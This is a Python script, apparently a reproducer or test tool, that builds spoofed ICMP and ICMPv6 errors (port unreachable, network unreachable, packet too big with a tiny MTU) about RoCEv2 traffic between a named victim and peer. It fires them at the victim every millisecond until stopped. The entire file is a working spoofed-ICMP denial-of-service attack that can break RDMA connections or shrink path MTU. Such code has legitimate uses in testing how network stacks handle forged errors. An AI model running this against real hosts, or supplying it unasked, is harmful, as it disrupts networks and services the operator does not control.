#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""forge_icmp.py - ICMP errors about RoCEv2 packets that were never lost, until it is ended.

usage: forge_icmp.py VICTIM PEER port|net|mtu

The victim sends to the peer; each error says that a packet on that way did not arrive: nobody
listens there, no way leads there, or it was too long, by far.
"""
import socket
import struct
import sys
import time

ROCE_PORT = 4791
CODE = {"port": (3, 0), "net": (0, 0), "mtu": (4, 68)}
# The same of ICMPv6: type, code, MTU.
CODE6 = {"port": (1, 4, 0), "net": (1, 0, 0), "mtu": (2, 0, 1280)}


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def error(victim, peer, what):
    code, mtu = CODE[what]
    src, dst = socket.inet_aton(victim), socket.inet_aton(peer)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1084, 0, 0x4000, 64, 17, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    udp = struct.pack("!HHHH", ROCE_PORT, ROCE_PORT, 1064, 0)
    icmp = struct.pack("!BBHHH", 3, code, 0, 0, mtu) + ip + udp
    return icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]


def error6(victim, peer, what):
    kind, code, mtu = CODE6[what]
    src, dst = (socket.inet_pton(socket.AF_INET6, a) for a in (victim, peer))
    ip = struct.pack("!IHBB16s16s", 6 << 28, 4164, 17, 64, src, dst)
    udp = struct.pack("!HHHH", ROCE_PORT, ROCE_PORT, 4164, 1)
    return struct.pack("!BBHI", kind, code, 0, mtu) + ip + udp + bytes(64)


def main():
    victim, peer, what = sys.argv[1:]
    if ":" in victim:  # of which the kernel computes the checksum
        sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        packet = error6(victim, peer, what)
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        packet = error(victim, peer, what)
    print("forging", flush=True)
    while True:
        sock.sendto(packet, (victim, 0))
        time.sleep(0.001)


main()
